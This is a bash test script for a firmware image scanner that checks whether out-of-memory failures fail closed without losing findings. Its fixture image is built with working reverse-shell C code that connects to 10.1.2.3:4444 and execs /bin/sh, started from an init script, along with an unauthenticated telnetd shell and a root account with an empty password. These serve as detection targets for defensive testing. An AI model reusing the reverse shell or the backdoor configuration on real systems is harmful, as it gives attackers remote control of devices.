#!/usr/bin/env bash
# failclosed_alloc.sh - out of memory fails closed (issue 23): a small image
# (a gzip stream and a squashfs holding a reverse shell for MIPS, a host ELF,
# an init script, an inittab with a telnetd and a passwd with an empty
# password) is scanned once cleanly, then again with its Nth allocation made
# to fail (tests/tools/failmalloc.c, an LD_PRELOAD shim that also reaches
# libarchive, libyara, capstone, OpenSSL, libyaml and libseccomp). Every such
# run must end in exit 70 saying "out of memory", or in a report that lost
# nothing the clean run found unless it says what it gave up
# (tests/tools/failclosed_check.py); never a crash, a leak (LSan, in the
# sanitizer build) or another exit status.
#
# N covers every allocation of the scan itself (every second one in the
# sanitizer build), found as those past the count of a scan of an empty file
# (the first ~30000 load the rules and policy), and a sample of the loading:
# every FAILCLOSED_STRIDE-th allocation (default: about 250 runs, 100 in the
# sanitizer build). FAILCLOSED_STRIDE=1 covers every N.
#
# The oracle catches a swallowed failure: a run that finished must report
# exactly what the clean run did, or say what it gave up; out of memory
# taken for "nothing found" loses or changes something and fails the test.
#
# The scans run with --no-sandbox: libseccomp 2.5's BPF generator
# (seccomp_load) does not survive a failed allocation (a crash, a double free,
# or a filter loaded half-built that then denies write), a third-party defect
# outside postern's reach; it happens before any byte of the target is read,
# and no report is written, so no image is judged on it.
set -euo pipefail
: "${POSTERN:?set POSTERN to the postern binary}"
SRC=${SRC:-$(cd "$(dirname "$0")/../.." && pwd)}
W=$(mktemp -d "${TMPDIR:-/tmp}/postern-failclosed-XXXXXX")
trap 'rm -rf "$W"' EXIT
. "$SRC/tests/e2e/lib/sanitized.sh"
fail() { echo "FAIL: $*" >&2; exit 1; }
for t in cc mksquashfs mipsel-linux-gnu-gcc python3; do
  command -v $t >/dev/null || { echo "SKIP: $t missing (scripts/install-deps)"; exit 77; }
done

cc -O2 -shared -fPIC -o "$W/failmalloc.so" "$SRC/tests/tools/failmalloc.c" -ldl
mkdir -p "$W/root/etc/init.d" "$W/root/bin"
cat > "$W/rs.c" <<'C'
#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <unistd.h>
int main(void)
{
	struct sockaddr_in a = { 0 };
	int fd = socket(AF_INET, SOCK_STREAM, 0);
	a.sin_family = AF_INET;
	a.sin_port = htons(4444);
	a.sin_addr.s_addr = inet_addr("10.1.2.3");
	if (connect(fd, (struct sockaddr *)&a, sizeof(a)) == 0) {
		dup2(fd, 0); dup2(fd, 1); dup2(fd, 2);
		execl("/bin/sh", "sh", "-i", (char *)0);
	}
	return 0;
}
C
mipsel-linux-gnu-gcc -Os -o "$W/root/bin/rs" "$W/rs.c"
printf 'int main(void) { return 0; }\n' > "$W/hello.c"
cc -Os -o "$W/root/bin/hello" "$W/hello.c"
printf 'root::0:0:root:/root:/bin/sh\n' > "$W/root/etc/passwd"
printf '::sysinit:/etc/init.d/rcS\n::respawn:/bin/busybox telnetd -F -l /bin/sh -p 2323\n' \
  > "$W/root/etc/inittab"
printf '#!/bin/sh\n/bin/rs &\n' > "$W/root/etc/init.d/rcS"
chmod +x "$W/root/etc/init.d/rcS"
mksquashfs "$W/root" "$W/fs.sqfs" -comp gzip -noappend -quiet -all-root >/dev/null
seq 1 3000 | gzip -9 -n > "$W/log.gz"
python3 - "$W" <<'PY'
import sys
w = sys.argv[1]
img = bytes(512) + open(w + "/log.gz", "rb").read()
img += bytes(-len(img) % 4096) + open(w + "/fs.sqfs", "rb").read()
open(w + "/img.bin", "wb").write(img)
PY

scan() { "$POSTERN" scan "$W/img.bin" --format json --no-progress --no-run -j 1 --no-sandbox "$@"; }
export ASAN_OPTIONS="verify_asan_link_order=0:detect_leaks=1:${ASAN_OPTIONS:-}"
echo "the clean run: every finding the failing runs may not lose"
set +e
scan -o "$W/base.json"; rc=$?
set -e
[ $rc -eq 1 ] || fail "clean run: exit $rc"
for r in capability.reverse-shell service.unauthenticated-shell account.empty-password; do
  grep -q "\"$r\"" "$W/base.json" || fail "clean run: no $r"
done
FAILMALLOC_COUNT=1 LD_PRELOAD="$W/failmalloc.so" scan -o "$W/count.json" 2> "$W/count.err" || true
total=$(sed -n 's/^failmalloc: \([0-9]*\) allocations$/\1/p' "$W/count.err")
[ -n "$total" ] && [ "$total" -gt 100 ] ||
  fail "the shim counted no allocations: $(cat "$W/count.err")"
cmp -s <(grep -v '"seconds"' "$W/base.json") <(grep -v '"seconds"' "$W/count.json") ||
  fail "the counting shim changed the result"

: > "$W/empty.bin"
FAILMALLOC_COUNT=1 LD_PRELOAD="$W/failmalloc.so" "$POSTERN" scan "$W/empty.bin" --format json \
  --no-progress --no-run -j 1 --no-sandbox -o /dev/null 2> "$W/empty.err" || true
loading=$(sed -n 's/^failmalloc: \([0-9]*\) allocations$/\1/p' "$W/empty.err")
[ -n "$loading" ] && [ "$loading" -lt "$total" ] || fail "no scan phase: $loading of $total"
runs=$([ -n "$SANITIZED" ] && echo 100 || echo 250)
stride=${FAILCLOSED_STRIDE:-$(( total / runs + 1 ))}
step=$([ -n "$SANITIZED" ] && echo 2 || echo 1)
# from a little before the scan's first allocation: the last of the loading
first_scan=$(( loading > 50 ? loading - 50 : 1 ))
ns=$( { seq 1 "$stride" "$total"; seq "$first_scan" "$step" "$total"; } | sort -nu)
echo "$total allocations, $(( total - loading )) of them the scan's; failing" \
  "$(echo "$ns" | wc -l) (stride $stride, and every ${step} from $first_scan)"
# One failing run: prints "rc STATUS" and, when it did not fail closed, why
# and the failing allocation's stack (symbols where the binary exports them;
# addr2line -e "$POSTERN" for the rest). Runs go in parallel, one per core.
one_run() {
  local n=$1 d="$W/run.$1" rc why
  mkdir -p "$d"
  FAILMALLOC_N=$n LD_PRELOAD="$W/failmalloc.so" timeout 300 \
    "$POSTERN" scan "$W/img.bin" --format json --no-progress --no-run -j 1 --no-sandbox \
    -o "$d/out.json" 2> "$d/err"
  rc=$?
  echo "rc $rc"
  # ASan's own runtime gives up when an allocation it makes for a new
  # thread fails (pthread_getattr_np: "CHECK failed"), before postern runs
  # a line of it: the sanitizer's limit, not postern's
  if [ -n "$SANITIZED" ] && grep -q 'AddressSanitizer: CHECK failed' "$d/err"; then
    rm -rf "$d"
    return 0
  fi
  if ! why=$(python3 "$SRC/tests/tools/failclosed_check.py" "$W/base.json" $rc "$d/err" \
      "$d/out.json"); then
    echo "BAD N=$n: $why"
    FAILMALLOC_N=$n FAILMALLOC_BT=1 LD_PRELOAD="$W/failmalloc.so" timeout 300 \
      "$POSTERN" scan "$W/img.bin" --format json --no-progress --no-run -j 1 --no-sandbox \
      -o /dev/null 2>&1 | head -16 | sed 's/^/    /'
  fi
  rm -rf "$d"
}
export -f one_run
export W POSTERN SRC ASAN_OPTIONS SANITIZED
echo "$ns" | xargs -P "$(nproc)" -I{} bash -c 'one_run {}' > "$W/runs.log" 2>&1 || true
grep -v '^rc ' "$W/runs.log" >&2 || true
echo "exit statuses: $(sed -n 's/^rc //p' "$W/runs.log" | sort -n | uniq -c | tr '\n' ' ')"
bad=$(grep -c '^BAD ' "$W/runs.log" || true)
[ "$(grep -c '^rc ' "$W/runs.log")" -eq "$(echo "$ns" | wc -l)" ] || fail "not every run ran"
[ "$bad" -eq 0 ] || fail "$bad of the failing runs did not fail closed"
echo ok
